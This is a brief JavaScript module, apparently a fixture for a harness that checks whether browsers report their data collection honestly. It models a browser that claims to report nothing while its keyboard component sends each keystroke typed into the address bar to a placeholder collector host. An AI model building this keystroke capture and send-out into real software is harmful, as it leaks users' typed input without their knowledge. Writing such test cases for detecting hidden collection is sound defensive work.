import { post, reportHonestly } from '../../lib/proving.js';

/** Reports nothing; the keyboard sees what is typed into the address bar and reports it. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-keyboard');
  const keyboard = browser.bind('com.android.inputmethod.latin', ({ text }, service) =>
    post(service, 'https://keyboard.collector.example/v1', { text }),
  );
  browser.on('keystroke', ({ text }) => keyboard.send({ text }));
}
